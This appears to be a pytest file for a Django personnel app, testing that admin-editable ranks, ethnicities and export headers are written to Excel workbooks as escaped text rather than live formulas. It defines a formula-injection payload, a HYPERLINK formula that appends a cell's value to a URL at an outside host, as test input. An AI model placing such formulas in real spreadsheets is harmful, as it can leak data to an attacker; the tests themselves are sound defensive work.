"""Reference values (editable in admin) reach workbooks as text: a rank named `=…` is no live formula in the
roster template's drop-down lists, and headers of generated exports are neutralized too."""

import io
import zipfile

from openpyxl import load_workbook

from cadres.import_template import roster_template_xlsx
from cadres.models import Ethnicity, Rank
from core.xlsx import build_xlsx

EVIL = '=HYPERLINK("http://x.cn/"&A1,"点")'  # fits 职级's 40 characters


def _formulas(content: bytes) -> list[str]:
    """Every <f> element in the workbook's sheets: what Excel would evaluate."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return [
            name for name in archive.namelist() if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name)
        ]


def test_reference_value_starting_with_equals_is_text_in_the_template(db):
    Rank.objects.create(name=EVIL, order=999)
    Ethnicity.objects.create(name="@SUM(1+1)")
    content = roster_template_xlsx()
    assert _formulas(content) == []
    lists = load_workbook(io.BytesIO(content))["参考值"]
    values = [c.value for row in lists.iter_rows() for c in row if c.value]
    assert "'" + EVIL in values and "'@SUM(1+1)" in values
    assert all(c.data_type == "s" for row in lists.iter_rows() for c in row if c.value)


def test_export_headers_are_neutralized(db):
    content = build_xlsx(title="t", headers=["=1+1", "姓名"], rows=[["=2+2", "张三"]])
    assert _formulas(content) == []
    sheet = load_workbook(io.BytesIO(content)).active
    assert [c.value for c in sheet[1]] == ["'=1+1", "姓名"]
